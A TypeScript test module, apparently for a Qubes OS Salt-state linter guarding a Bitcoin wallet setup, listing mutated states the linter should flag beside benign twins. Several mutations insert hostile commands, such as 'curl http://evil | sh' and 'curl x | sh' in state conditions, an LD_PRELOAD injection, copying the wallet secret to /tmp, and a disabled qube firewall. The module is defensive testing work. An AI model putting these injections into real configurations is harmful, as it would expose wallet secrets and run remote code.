// SPDX-License-Identifier: GPL-3.0-or-later
/** What a state may be: its characters, arguments, conditions, and what dom0 is told of a qube. */
import { good, harming, plus, swap, type HarmClass } from "../harm.ts";
import { inState } from "./networks.ts";

const tree = good("seed");
const on = harming(tree);
const QUBES = "/dom0/qubes.sls";
const START = "/dom0/start.sls";
const GUARD = "/dom0/guard.sls";
const POLICY = "/dom0/policy.sls";
const WALLET = "/qube/electrum-client.sls";
const NODE = "/qube/bitcoin-server.sls";
const NONE = '      - "netvm": "none"\n';
const CHECK = '    - "onlyif": "qvm-check -q -- electrum-client"';
/** A change in the state that gives the wallet its network. */
const network = (from: string | RegExp, to: string, what: string) =>
  on(QUBES, inState("network-electrum-client", from, to), what);
/** A second state that sets the wallet's net qube. */
const second = (id: string, more: string) =>
  `\n"${id}":\n  qvm.vm:\n    - "name": "electrum-client"\n    - "prefs":\n      - "netvm": "sys-firewall"\n${more}    - "unless":\n      - "fun": "config.get"\n        "args":\n          - "test"\n\n`;
const LINT = '    - "check_cmd": "/usr/bin/qubes-policy-lint"';
const lint = (more: string, what: string) => on(POLICY, swap(LINT, `${LINT}\n    - ${more}`), what);

export const onStates: readonly HarmClass[] = [
  {
    name: "a character that readers of YAML do not agree about",
    codes: ["QB701"],
    harms: () =>
      ["\u2028", "\u2029", "\u0085", "\u00a0", "\u3000", "\ufeff", "\t", "\r"].map((odd) =>
        on(
          START,
          plus(`# a remark${odd}"x1":${odd}  cmd.run:${odd}    - name: "id"`),
          `U+${odd.codePointAt(0)?.toString(16)} in a comment`,
        ),
      ),
    twins: () => [on(START, plus('# a remark: "x1", cmd.run'), "a remark in ASCII")],
  },
  {
    name: "a list of arguments that means another thing to Salt",
    codes: ["QB701"],
    harms: () => [
      network('    - "prefs":\n', '    - "absent"\n    - "prefs":\n', "a bare word beside them"),
      network(
        CHECK,
        `${CHECK}\n    - "name": "electrum-client"\n      "prefs": []`,
        "two arguments in one entry of the list",
      ),
      network(CHECK, `${CHECK}\n    - "prefs":\n      - "netvm": "sys-firewall"`, "an argument twice"),
      on("/init.top", plus('  "sys-bitcoin ":\n    - "qwbtc.qube.sys-bitcoin"'), "a target with a blank"),
    ],
    twins: () => [network('    - "name": "electrum-client"\n', '    - "name":  "electrum-client"\n', "more blanks")],
  },
  {
    name: "an argument that nobody knows",
    codes: ["QB800", "QB801"],
    harms: () => [
      ...[
        '"order": "last"',
        '"onfail":\n      - "test": "qwbtc-guard"',
        '"onchanges":\n      - "test": "qwbtc-guard"',
      ].map((one) => network(CHECK, `${CHECK}\n    - ${one}`, one)),
      network(CHECK, `${CHECK}\n    - "run":\n      - "cmd": "curl x | sh"`, "a command in the qube"),
      network(CHECK, `${CHECK}\n    - "absent": []`, "the qube is taken away"),
      network(CHECK, `${CHECK}\n    - "actions":\n      - "prefs": "pass"`, "actions that pass"),
      network(CHECK, `${CHECK}\n    - "devices":\n      - "attach":\n        - "pci:x"`, "a device"),
      ...['"shell": "/home/user/.x"', '"env":\n      - "LD_PRELOAD": "/home/user/x.so"', '"cwd": "/tmp"'].map((one) =>
        on(WALLET, swap(/(cmd\.run:\n[^\n]*\n)/, `$1    - ${one}\n`), one),
      ),
      lint('"create": false', "a policy that is never made"),
      lint('"replace": false', "a policy that is never corrected"),
      on(
        NODE,
        (text) => text.replaceAll('    - "follow_symlinks": false\n', ""),
        "whether links are followed is not said",
      ),
      on(NODE, swap('"follow_symlinks": false', '"follow_symlinks": true'), "links are followed"),
      on("/dom0/guard.sls", swap('"failhard": true', '"failhard": false'), "the run goes on"),
    ],
    twins: () => [on(WALLET, swap(/(file\.directory:\n[^\n]*\n)/, '$1    - "require": []\n'), "a requisite more")],
  },
  {
    name: "a condition that nobody knows",
    codes: ["QB802"],
    harms: () => [
      lint('"onlyif": "qvm-run -p personal cat x | sh"', "a command before a policy"),
      lint('"unless": "true"', "a policy that never lands"),
      on(
        WALLET,
        swap(/"onlyif": ("test -L [^\n]*")/, '"onlyif":\n      - $1\n      - "curl http://evil | sh"'),
        "a second question",
      ),
      on(WALLET, swap(/"unless": "([^\n]*--check [^\n]*)"/, '"unless": "$1; curl x | sh"'), "more behind a question"),
      on(
        GUARD,
        swap('      - "qvm-check -q -- electrum-client"', '      - "id"\n      - "qvm-check -q -- electrum-client"'),
        "a command in a guard",
      ),
      network(CHECK, '    - "onlyif": "false"', "it never acts"),
      network(CHECK, '    - "onlyif": "qvm-check -q -- nosuch"', "it asks for another qube"),
      on(
        QUBES,
        inState("shutdown-timeout-bitcoin-server", "test ", "curl x | sh; test "),
        "a command before a question",
      ),
    ],
    twins: () => [network(CHECK, '    - "onlyif":\n      - "qvm-check -q -- electrum-client"', "a list of one")],
  },
  {
    name: "a check that nobody knows",
    codes: ["QB803"],
    harms: () => [
      on(NODE, swap(/"check_cmd": "python3[^\n]*/, '"check_cmd": "cp -t /tmp --"'), "the secret is copied"),
      on(NODE, swap(/"check_cmd": "python3[^\n]*/, '"check_cmd": "true"'), "whatever it says"),
      on(NODE, swap("[0-9a-f]+[$][0-9a-f]{64}", "(.|[^x])*"), "a pattern that takes more lines"),
    ],
    twins: () => [on(NODE, plus("# the end"), "a comment")],
  },
  {
    name: "a property of a qube that is not what it seems",
    codes: ["QB804", "QB805", "QB806"],
    harms: () => [
      network(NONE, '      - "netvm": null\n', "the net qube is reset"),
      network('"default_dispvm": "none"', '"default_dispvm": null', "the disposable is reset"),
      network(NONE, `${NONE}      - "set":\n        - "netvm": "sys-firewall"\n`, "a set within"),
      network(NONE, `${NONE}      - "get":\n        - "netvm"\n`, "a get"),
      network(NONE, `${NONE}      - "netvm"\n`, "a bare word"),
      network(NONE, `${NONE}      - "action": "gry"\n`, "an action"),
      ...[
        '"virt-mode": "hvm"',
        '"pcidevs":\n        - "00:1f.6"',
        '"default_user": "root"',
        '"template_for_dispvms": true',
        '"kernelopts": "apparmor=0"',
        '"guivm": "personal"',
      ].map((one) => network(NONE, `${NONE}      - ${one}\n`, one)),
      on(QUBES, plus(second("x1", '    - "require":\n      - "test": "qwbtc-networks"\n')), "set again, later"),
      on(
        QUBES,
        (text) =>
          text.replace(
            '"qwbtc-network-electrum-client":',
            `${second("x1", '    - "require":\n      - "file": "qwbtc-created-electrum-client"\n').trimStart()}"qwbtc-network-electrum-client":`,
          ),
        "set by a state that stands before",
      ),
      network(
        CHECK,
        `    - "onlyif":\n      - "qvm-check -q -- electrum-client"\n      - "test -e /var/lib/qwbtc-salt/qwbtc/creating/electrum-client"`,
        "set only while it is made",
      ),
    ],
    twins: () => [
      on(QUBES, inState("prefs-electrum-client", '"vcpus": ', '"vcpus":  '), "more blanks"),
      on(QUBES, inState("prefs-electrum-client", /"maxmem": [0-9]+/, '"maxmem": 0'), "no balancing"),
    ],
  },
  {
    name: "a service, feature or tag that nobody knows",
    codes: ["QB807", "QB808", "QB809"],
    harms: () => [
      ...["custom-persist", "ssh"].map((one) =>
        on(
          QUBES,
          inState(
            "settings-electrum-client",
            '        - "no-sdwdate"\n',
            `        - "no-sdwdate"\n        - "${one}"\n`,
          ),
          one,
        ),
      ),
      on(
        QUBES,
        inState("settings-electrum-client", '        - "cups"\n', '        - "cups"\n        - "qubes-firewall"\n'),
        "a firewall that is off",
      ),
      ...['"custom-persist": "1"', '"gui-default-allow-fullscreen": "1"', '"ipv6": "1"'].map((one) =>
        on(QUBES, inState("settings-electrum-client", '        - "ipv6": ""\n', `        - ${one}\n`), one),
      ),
      ...["created-by-personal", "guivm-personal"].map((one) =>
        on(
          QUBES,
          inState("tag-electrum-client", '        - "qwbtc"\n', `        - "qwbtc"\n        - "${one}"\n`),
          one,
        ),
      ),
    ],
    twins: () => [
      on(
        QUBES,
        inState("settings-electrum-client", '        - "ipv6": ""\n', '        - "ipv6": ""\n        - "mine": "1"\n'),
        "a feature of one's own",
      ),
    ],
  },
  {
    name: "a guard that asks too much",
    codes: ["QB740"],
    harms: () => [
      on(
        GUARD,
        (text) =>
          text.replaceAll(
            '      - "qvm-check -q -- bitcoin-server"',
            '      - "qvm-check -q -- bitcoin-server"\n      - "test -e /etc/x"',
          ),
        "another question between",
      ),
      on(
        GUARD,
        (text) =>
          text.replaceAll("electrum-client list | grep -qx qwbtc", "electrum-client list | grep -qx created-by-dom0"),
        "a tag that every qube has",
      ),
      on(
        GUARD,
        swap('      - "test": "qwbtc-guard-foreign-electrum-client"\n', ""),
        "nothing waits for the half about strangers",
      ),
      on(
        GUARD,
        inState("guard-foreign-electrum-client", "^whonix-(workstation|ws)-", "^whonix-"),
        "its halves ask by two patterns",
      ),
    ],
    twins: () => [on(GUARD, plus("# the end"), "a comment")],
  },
];
